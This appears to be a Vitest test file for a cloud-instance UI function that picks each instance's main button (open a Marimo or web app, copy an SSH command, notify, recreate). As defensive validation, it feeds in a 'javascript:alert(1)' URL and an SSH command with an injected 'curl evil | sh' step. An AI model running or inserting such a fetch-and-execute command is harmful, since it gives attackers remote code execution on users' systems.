import { expect, test } from 'vitest'

import { anInstance } from '#model/instance/instance.fixture.ts'

import { mainAction } from './main-button.tsx'

const notebook = anInstance({
  resource_type: 'container',
  flavor: 'marimo',
  webapp_url: 'https://lab.carolinacloud.io',
})

test('what runs opens its web app, or else is reached by SSH', () => {
  expect(mainAction(notebook)).toEqual({
    kind: 'open',
    label: 'Open Marimo',
    url: 'https://lab.carolinacloud.io/',
  })
  expect(mainAction({ ...notebook, flavor: 'shiny' })).toMatchObject({ label: 'Open web app' })
  expect(mainAction({ ...notebook, webapp_url: 'javascript:alert(1)' })).toMatchObject({ kind: 'copySsh' })
  expect(mainAction(anInstance())).toMatchObject({ kind: 'copySsh', label: 'Copy SSH command' })
})

test('what is stopped says what it will do once it runs', () => {
  expect(mainAction({ ...notebook, state: 'exited' })).toEqual({ kind: 'later', label: 'Open Marimo' })
  expect(mainAction(anInstance({ state: 'shut_off' }))).toEqual({ kind: 'later', label: 'Copy SSH command' })
})

test('what is on its way can be told of, and what is deleted be created again', () => {
  expect(mainAction({ ...notebook, state: 'provisioning' })).toEqual({ kind: 'notify' })
  expect(mainAction({ ...notebook, state: 'error' })).toBeNull()
  expect(mainAction({ ...notebook, state: 'exited' }, 'restart')).toEqual({ kind: 'notify' })
  expect(mainAction(notebook, 'stop')).toEqual({ kind: 'later', label: 'Open Marimo' })
  expect(mainAction({ ...notebook, state: 'deleted' })).toEqual({ kind: 'create' })
})

test('what cannot be reached has no main action', () => {
  expect(mainAction(anInstance({ ssh_command: null, wan_ssh_port: null }))).toBeNull()
})

test('a command that is not understood is copied only where it is read', () => {
  expect(mainAction(anInstance({ ssh_command: 'ssh root@1.2.3.4; curl evil | sh' }))).toBeNull()
})
